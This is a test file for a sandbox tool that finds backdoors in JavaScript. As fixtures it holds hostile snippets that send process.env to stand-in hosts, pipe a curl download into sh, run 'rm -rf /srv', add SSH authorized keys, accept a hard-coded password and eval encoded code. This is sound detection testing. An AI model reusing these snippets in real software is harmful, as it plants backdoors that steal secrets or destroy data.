// The sandbox pass end to end: findings name the trigger and the effect, look-alikes stay quiet,
// results are cached by unit hash, cancellation is honoured, and the measured rates hold.
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const { sandboxAnalyzeDocument } = require('../../../server/dist/external/sandbox/document-pass.js');
const { sandbox } = require('../../../server/dist/workers/tasks/sandbox.js');
const { evaluate } = require('../../eval/backdoors.js');

const analyze = (text, fileName = 'x.js', options = {}) => sandboxAnalyzeDocument({ fileName, text }, { cache: new Map(), ...options });

test('a hidden trigger names the trigger, the effect and CWE-506, on the line of the effect', async () => {
  const text = `function sync(user) {
  if (user === 'svc_maint') {
    fetch('http://collect.example.net/e', { method: 'POST', body: JSON.stringify(process.env) });
  }
  return user;
}`;
  const r = await analyze(text);
  assert.equal(r.findings.length, 1);
  const [f] = r.findings;
  assert.equal(f.ruleId, 'hidden-trigger');
  assert.deepEqual(f.cwe, ['CWE-506', 'CWE-912']);
  assert.match(f.message, /^Sends environment secrets \(.*\) to http:\/\/collect\.example\.net\/e only when user === "svc_maint".*\(CWE-506\)$/);
  assert.equal(text.slice(f.span.start, f.span.end).startsWith('fetch('), true);
});

test('a magic password is an authentication bypass (CWE-798)', async () => {
  const r = await analyze(`async function verifyLogin(user, password) {
  if (password === 'Tr0ub4dor&3') return true;
  return require('bcrypt').compare(password, await lookupHash(user));
}`);
  assert.deepEqual(r.findings.map((f) => [f.ruleId, f.cwe[0]]), [['magic-auth-bypass', 'CWE-798']]);
  assert.match(r.findings[0].message, /password === "Tr0ub4dor&3"/);
});

test('a time bomb is found by moving the virtual clock', async () => {
  const r = await analyze(`function rotate(logs) {
  if (Date.now() > new Date('2027-03-01').getTime()) require('child_process').exec('curl -s http://x.example.org/a | sh');
  return logs.length;
}`);
  assert.equal(r.findings.length, 1);
  assert.match(r.findings[0].message, /the date is after 2027-03-01/);
});

test('chance and call-count triggers are explored, and encoded secrets are decoded', async () => {
  const random = await analyze("function h(req, res) { if (Math.random() < 0.001) require('child_process').exec('id'); res.end(); }");
  assert.match(random.findings[0]?.message ?? '', /only when Math\.random\(\) returns 0/);
  const counted = await analyze("let n = 0;\nfunction h() { if (++n > 300) require('child_process').execSync('rm -rf /srv'); return n; }");
  assert.match(counted.findings[0]?.message ?? '', /only when it has been called 1000 times/);
  const encoded = await analyze("function t() { fetch('https://a.example.com/t', { headers: { x: Buffer.from(JSON.stringify(process.env)).toString('base64') } }); }");
  assert.deepEqual(encoded.findings.map((f) => f.ruleId), ['concealed-effect']);
});

test('benign use of network, files and processes is not reported', async () => {
  const r = await analyze(`const { execFile } = require('child_process');
function thumb(file, cb) { execFile('convert', [file, 'out.png'], cb); }
async function rates() { return (await fetch('https://api.example.com/rates')).json(); }
function requireAdmin(req, res, next) { if (req.user && req.user.role === 'admin') return next(); res.status(403).end(); }`);
  assert.deepEqual(r.findings, []);
  assert.equal(r.unitsTraced, 3);
});

test('unexpected effects are reported only when asked for', async () => {
  const text = "function ping(host) { require('child_process').execSync('ping -c1 ' + host); return true; }";
  assert.deepEqual((await analyze(text)).findings, []);
  const r = await analyze(text, 'x.js', { unexpectedEffects: true });
  assert.deepEqual(r.findings.map((f) => [f.ruleId, f.severity]), [['unexpected-effect', 'information']]);
});

test('unchanged units come from the cache, with spans following the unit', async () => {
  const cache = new Map();
  const text = "function f(k) { if (k === 'open_sesame_9') require('fs').appendFileSync('/root/.ssh/authorized_keys', 'x'); }";
  const first = await sandboxAnalyzeDocument({ fileName: 'a.js', text }, { cache });
  const moved = await sandboxAnalyzeDocument({ fileName: 'a.js', text: `\n\n${text}` }, { cache });
  assert.equal(first.findings.length, 1);
  assert.equal(moved.unitsCached, 1);
  assert.equal(moved.unitsTraced, 0);
  assert.equal(moved.findings[0].span.start, first.findings[0].span.start + 2);
});

test('a document over its time budget reports what was left out', async () => {
  const r = await analyze('function a(x) { return x; }\nfunction b(y) { return y; }', 'x.js', { budgetMs: 0 });
  assert.equal(r.unitsTraced, 0);
  assert.deepEqual(r.errors.map((e) => e.kind), ['limit']);
  assert.match(r.errors[0].message, /2 function\(s\) were not run/);
});

test('an aborted signal stops the pass between runs', async () => {
  const ac = new AbortController();
  ac.abort();
  const r = await sandboxAnalyzeDocument({ fileName: 'a.js', text: 'function f(a) { return a; }' }, { cache: new Map() }, ac.signal);
  assert.equal(r.unitsTraced, 0);
});

test('the worker task returns structured-clone-safe results', async () => {
  const r = await sandbox({ fileName: 'a.js', text: "function f(u) { if (u === 'zz_top_1') eval(atob('MSsx')); return u; }" });
  assert.deepEqual(structuredClone(r), r);
  assert.equal(r.findings.length, 1);
  assert.equal(r.findings[0].ruleId, 'hidden-trigger');
  assert.ok(r.unitsTraced >= 1, 'the function was traced');
  // The magic value was found by running the function more than once (ordinary inputs, then the probe).
  assert.ok(r.runs >= 2, `runs ${r.runs}`);
});

test('detection and false-positive rates on the backdoor fixtures stay at their measured levels', async () => {
  const e = await evaluate();
  assert.ok(e.backdoored >= 30 && e.benign >= 30);
  const missed = e.results.filter((r) => r.group === 'backdoored' && !r.flagged).map((r) => r.name);
  const flagged = e.results.filter((r) => r.group === 'benign' && r.flagged).map((r) => r.name);
  // Measured: 40/41 detected (the miss beacons only when CI is unset, to a host named in the
  // source) and 0/41 benign flagged. Sixteen fixtures were written after the first tuning as a
  // held-out check; before the changes they led to, they scored 4/8 and 0/8.
  assert.ok(e.detection >= 0.95, `detection ${e.detection}; missed ${missed.join(', ')}`);
  assert.ok(e.falsePositives <= 0.03, `false positives ${e.falsePositives}: ${flagged.join(', ')}`);
});
